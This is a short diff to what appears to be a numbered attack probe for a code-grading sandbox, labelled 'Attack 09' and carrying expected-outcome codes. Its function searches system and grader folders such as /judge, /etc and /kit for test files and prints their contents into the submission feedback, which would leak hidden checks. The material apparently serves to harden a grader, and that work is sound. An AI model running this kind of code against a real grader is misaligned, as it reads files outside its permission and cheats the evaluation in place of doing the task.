@@ -1,6 +1,8 @@
 """Attack 09: print whatever might be a check into the feedback.
 
 expect: N
+hole E: it may read all that the grading user may, on a whole disk
+expect E: N or T or O
 """
 
 import glob
@@ -10,7 +12,11 @@ from multiprocessing import Process
 def attack():
     for folder in ("/home", "/kit", "/judge", "/tmp", "/work", "/etc", "/srv"):
         for path in glob.glob(f"{folder}/**/*test_*", recursive=True):
-            print("HOLE:", path, open(path).read())
+            try:
+                with open(path, errors="replace") as stream:
+                    print("HOLE:", path, stream.read(100_000))
+            except OSError:
+                continue
     print("tried")
 
 
